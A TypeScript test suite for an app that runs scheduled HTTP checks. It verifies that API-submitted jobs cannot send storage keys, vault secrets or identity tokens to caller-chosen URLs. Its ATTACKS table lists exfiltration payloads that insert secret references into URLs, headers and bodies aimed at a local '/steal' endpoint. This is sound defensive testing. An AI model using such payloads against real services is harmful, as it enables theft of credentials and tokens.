import type { TokenCredential } from '@azure/identity';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { MemoryStore } from '../../../src/adapters/memory-store/memoryStore.js';
import type { StateStore } from '../../../src/app/ports/index.js';
import { startLocalHost, type LocalHost } from '../../../src/hosts/local/localHost.js';
import { NO_TICK } from '../../support/api.js';
import { MemoryLogger } from '../../support/fakes.js';
import { appFolder } from '../../support/host.js';
import { startServer, type TestServer } from '../../support/servers.js';

/**
 * Issue 10, scoped references: a key holder's API job or unsaved run cannot take the app's settings,
 * secrets or identity to a URL of its choosing, unless the operators listed them. Through the local
 * host (the real registry and handlers), a target of its own on 127.0.0.1 and a fake identity.
 */
const STORAGE = 'DefaultEndpointsProtocol=https;AccountName=victim;AccountKey=c3RvcmFnZS1hY2NvdW50LWtleQ==';
const IDENTITY_HEADER = 'identity-header-value-0042';
const VAULT_ONLY = 'vault-only-secret-value';
const API_KEY = 'allowed-api-key-value';
const SHARED = 'shared-setting-value-77';
const TOKEN = 'fake-entra-token-for-the-app';
const ARM = 'https://management.azure.com/.default';
const TARGET_SCOPE = 'api://target/.default';
const NEVER_SHOWN = [STORAGE, 'c3RvcmFnZS1hY2NvdW50LWtleQ', IDENTITY_HEADER, VAULT_ONLY, TOKEN];

interface Api {
  readonly host: LocalHost;
  readonly logger: MemoryLogger;
  // The response's JSON, loosely typed: each test reads the fields it checks.
  // eslint-disable-next-line @typescript-eslint/no-explicit-any
  call(method: string, path: string, body?: unknown, headers?: Record<string, string>): Promise<{ status: number; text: string; json: any }>;
}

describe('API jobs and unsaved runs are sandboxed', () => {
  let target: TestServer;
  const received: Array<{ path: string; headers: Record<string, unknown>; body: string }> = [];
  const tokens: Array<{ clientId: string | undefined; scopes: string | string[] }> = [];
  const hosts: LocalHost[] = [];
  let closed: Api;
  let open: Api;

  /** Records every token the app asks its identity for; never reaches any network. */
  const credentialFactory = (clientId: string | undefined): TokenCredential => ({
    getToken: async (scopes) => {
      tokens.push({ clientId, scopes });
      return { token: TOKEN, expiresOnTimestamp: Date.now() + 3_600_000 };
    },
  });

  async function start(values: Record<string, string>, store: StateStore = new MemoryStore()): Promise<Api> {
    const dir = appFolder({ jobs: [{ name: 'fileJob', url: `${target.url}/file`, every: '1h', headers: { 'x-file': '${env:IDENTITY_HEADER}' } }] });
    const logger = new MemoryLogger();
    const host = await startLocalHost({
      dir,
      env: {
        PULSECHECK_PORT: '0',
        PULSECHECK_TICK_SCHEDULE: NO_TICK,
        PULSECHECK_SHUTDOWN_GRACE_SECONDS: '1',
        // The target guard (issue 10) blocks loopback targets unless allowed; the target is on 127.0.0.1.
        PULSECHECK_ALLOWED_NETWORKS: '127.0.0.0/8',
        AzureWebJobsStorage: STORAGE,
        IDENTITY_HEADER,
        SHARED,
        PULSECHECK_SECRET_VAULT_ONLY: VAULT_ONLY,
        PULSECHECK_SECRET_API_KEY: API_KEY,
        ...values,
      },
      logger,
      store,
      credentialFactory,
    });
    hosts.push(host);
    return {
      host,
      logger,
      call: async (method, path, body, headers = {}) => {
        const response = await fetch(`${host.url}${path}`, {
          method,
          headers: { ...(body === undefined ? {} : { 'content-type': 'application/json' }), ...headers },
          ...(body === undefined ? {} : { body: JSON.stringify(body) }),
        });
        const text = await response.text();
        return { status: response.status, text, json: text === '' ? undefined : JSON.parse(text) };
      },
    };
  }

  const OPEN = {
    PULSECHECK_API_ENV_ALLOW: 'SHARED',
    PULSECHECK_API_SECRETS_ALLOW: 'api-key',
    PULSECHECK_API_MI_SCOPES_ALLOW: TARGET_SCOPE,
  };

  beforeAll(async () => {
    target = await startServer(async (req, res) => {
      const chunks: Buffer[] = [];
      for await (const chunk of req) chunks.push(chunk as Buffer);
      received.push({ path: req.url ?? '', headers: req.headers, body: Buffer.concat(chunks).toString('utf8') });
      if (req.url?.startsWith('/token')) {
        res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({ access_token: 'oauth-token', token_type: 'Bearer', expires_in: 3600 }));
      } else res.writeHead(200).end('ok');
    });
    closed = await start({});
    open = await start(OPEN);
  });
  afterAll(async () => {
    await Promise.all(hosts.map((host) => host.stop()));
    await target?.close();
  });

  const steal = () => `${target.url}/steal`;
  /** Each finding of the issue, as the attacker sent it, and the field the 400 must name. */
  const ATTACKS: Array<[attack: string, body: () => Record<string, unknown>, fields: string[]]> = [
    ['the app identity for ARM', () => ({ url: steal(), auth: { type: 'managedIdentity', scope: ARM } }), ['auth.scope']],
    ['a user-assigned identity', () => ({ url: steal(), auth: { type: 'managedIdentity', scope: TARGET_SCOPE, clientId: 'uai-1' } }), ['auth.clientId']],
    ['${env:AzureWebJobsStorage} in url', () => ({ url: `${steal()}?s=\${env:AzureWebJobsStorage}` }), ['url']],
    ['${env:IDENTITY_HEADER} in a header', () => ({ url: steal(), headers: { 'x-steal': '${env:IDENTITY_HEADER}' } }), ['headers.x-steal']],
    ['${env:} in a JSON body', () => ({ url: steal(), method: 'POST', body: { s: '${env:AzureWebJobsStorage}' } }), ['body']],
    ['${env:} in a text body', () => ({ url: steal(), method: 'POST', body: 's=${env:AzureWebJobsStorage}' }), ['body']],
    [
      '${env:} in auth.tokenUrl',
      () => ({ url: steal(), auth: { type: 'oauth2ClientCredentials', tokenUrl: `${target.url}/token?s=\${env:IDENTITY_HEADER}`, clientId: 'c', secret: 'api-key' } }),
      ['auth.tokenUrl'],
    ],
    ['${secret:} in url', () => ({ url: `${steal()}?s=\${secret:vault-only}` }), ['url']],
    ['${secret:} in a header', () => ({ url: steal(), headers: { 'x-steal': '${secret:vault-only}' } }), ['headers.x-steal']],
    ['${secret:} in a body', () => ({ url: steal(), method: 'POST', body: { s: '${secret:vault-only}' } }), ['body']],
    ['auth.secret of bearer', () => ({ url: steal(), auth: { type: 'bearer', secret: 'vault-only' } }), ['auth.secret']],
    [
      'auth.secret sent to a tokenUrl of its choosing',
      () => ({ url: steal(), auth: { type: 'oauth2ClientCredentials', tokenUrl: `${target.url}/token`, clientId: 'c', secret: 'vault-only' } }),
      ['auth.secret'],
    ],
    ['a reference beside a broken field', () => ({ url: steal(), retries: 3, headers: { 'x-steal': '${env:IDENTITY_HEADER}' } }), ['', 'headers.x-steal']],
  ];

  describe.each(['closed (the defaults)', 'open (allow-lists set)'])('%s', (which) => {
    it.each(ATTACKS.flatMap(([attack, body, fields]) => ['/runs', '/jobs'].map((route) => [attack, route, body, fields] as const)))(
      '%s through POST /api%s is a 400 naming the field, and nothing leaves',
      async (_attack, route, body, fields) => {
        const api = which.startsWith('closed') ? closed : open;
        const before = { received: received.length, tokens: tokens.length };
        const response = await api.call('POST', route, { name: 'attack', every: '1h', ...body() });
        expect(response.status).toBe(400);
        expect(response.json).toMatchObject({ code: 'validation_failed' });
        const paths = (response.json.issues as Array<{ path: string }>).map((issue) => issue.path);
        for (const field of fields) expect(paths).toContain(field);
        for (const value of NEVER_SHOWN) expect(response.text).not.toContain(value);
        expect(received.length).toBe(before.received);
        expect(tokens.length).toBe(before.tokens);
      },
    );
  });

  it('with the allow-lists set, listed references work: the listed scope, secret and setting', async () => {
    const response = await open.call('POST', '/runs', {
      url: `${target.url}/allowed?s=\${env:SHARED}`,
      method: 'POST',
      headers: { 'x-key': '${secret:api-key}' },
      body: { shared: '${env:SHARED}' },
      auth: { type: 'managedIdentity', scope: TARGET_SCOPE },
    });
    expect(response.status).toBe(200);
    expect(response.json).toMatchObject({ status: 'up', httpStatus: 200 });
    expect(tokens.at(-1)).toEqual({ clientId: undefined, scopes: TARGET_SCOPE });
    const request = received.at(-1);
    expect(request).toMatchObject({ path: `/allowed?s=${SHARED}`, headers: { authorization: `Bearer ${TOKEN}`, 'x-key': API_KEY }, body: JSON.stringify({ shared: SHARED }) });
    // The token and the secret never come back in the run.
    expect(response.text).not.toContain(TOKEN);
    expect(response.text).not.toContain(API_KEY);
  });

  it('the jobs file keeps every reference', async () => {
    const before = received.length;
    const response = await closed.call('POST', '/jobs/fileJob/run');
    expect(response.json).toMatchObject({ status: 'up' });
    expect(received.slice(before).at(-1)?.headers['x-file']).toBe(IDENTITY_HEADER);
  });

  it('an allowed setting reaches the target, but no view, run, page or audit entry shows its value', async () => {
    const created = await open.call('POST', '/jobs', {
      name: 'usesShared',
      url: `${target.url}/shared/\${env:SHARED}`,
      every: '1h',
      method: 'POST',
      headers: { 'x-shared': '${env:SHARED}' },
      body: 'shared=${env:SHARED}',
    });
    expect(created.status).toBe(201);
    const run = await open.call('POST', '/jobs/usesShared/run');
    expect(run.json).toMatchObject({ status: 'up' });
    expect(received.at(-1)).toMatchObject({ path: `/shared/${SHARED}`, headers: { 'x-shared': SHARED }, body: `shared=${SHARED}` });
    const shown = [
      created.text,
      run.text,
      (await open.call('GET', '/jobs/usesShared')).text,
      (await open.call('GET', '/jobs')).text,
      (await open.call('GET', '/jobs/usesShared/runs')).text,
      (await open.call('GET', '/audit')).text,
    ];
    for (const text of shown) expect(text).not.toContain(SHARED);
    expect(created.json.url).toBe(`${target.url}/shared/\${env:SHARED}`);
    expect(created.json.headers['x-shared']).toBe('${env:SHARED}');
  });

  it('a stored job that a narrowed allow-list refuses is reported and does not run; everything else does', async () => {
    const store = new MemoryStore();
    const before = await start(OPEN, store);
    expect((await before.call('POST', '/jobs', { name: 'narrowed', url: `${target.url}/narrowed?s=\${env:SHARED}`, every: '1h' })).status).toBe(201);
    expect((await before.call('POST', '/jobs', { name: 'plain', url: `${target.url}/plain`, every: '1h' })).status).toBe(201);
    await before.host.stop();

    const after = await start({}, store);
    // The dispatcher plans from this list: the refused job is not in it.
    const { jobs } = (await after.call('GET', '/jobs')).json as { jobs: Array<{ name: string }> };
    expect(jobs.map((job) => job.name)).toEqual(['fileJob', 'plain']);
    const health = await after.host.deps.useCases.health.report();
    expect(health.checks.jobsFile).toMatchObject({ status: 'degraded', problems: ['API job "narrowed" is invalid: url references ${env:SHARED}, which API jobs may not use: add it to PULSECHECK_API_ENV_ALLOW'] });
    expect(after.logger.records).toContainEqual(expect.objectContaining({ level: 'warn', message: 'API job "narrowed" is invalid and does not run' }));
    expect((await after.call('POST', '/jobs/plain/run')).json).toMatchObject({ status: 'up' });
    expect((await after.call('POST', '/jobs/fileJob/run')).json).toMatchObject({ status: 'up' });
    expect((await after.call('POST', '/jobs/narrowed/run')).status).toBe(404);
    // It can still be fixed or deleted.
    expect((await after.call('PUT', '/jobs/narrowed', { url: `${target.url}/narrowed`, every: '1h' }, { 'if-match': '*' })).status).toBe(200);
  });

  it('PULSECHECK_MAX_API_JOBS caps the API jobs: one more is a 409 quota_exceeded', async () => {
    const api = await start({ PULSECHECK_MAX_API_JOBS: '2' });
    const job = (name: string) => ({ name, url: `${target.url}/q`, every: '1h' });
    expect((await api.call('POST', '/jobs', job('q1'))).status).toBe(201);
    expect((await api.call('POST', '/jobs', job('q2'))).status).toBe(201);
    const refused = await api.call('POST', '/jobs', job('q3'));
    expect(refused.status).toBe(409);
    expect(refused.json).toMatchObject({
      code: 'quota_exceeded',
      detail: 'there are 2 API jobs, the most PULSECHECK_MAX_API_JOBS (2) allows: delete one, or raise the setting',
    });
    // Concurrent creations in one instance cannot pass the cap together.
    expect((await api.call('DELETE', '/jobs/q2', undefined, { 'if-match': '*' })).status).toBe(204);
    const racing = await Promise.all(['r1', 'r2', 'r3'].map((name) => api.call('POST', '/jobs', job(name))));
    expect(racing.map((r) => r.status).sort()).toEqual([201, 409, 409]);
    // Unsaved runs and changes to existing jobs are not creations.
    expect((await api.call('PUT', '/jobs/q1', { url: `${target.url}/q`, every: '2h' }, { 'if-match': '*' })).status).toBe(200);
    expect((await api.call('POST', '/runs', { url: `${target.url}/q` })).status).toBe(200);
  });
});
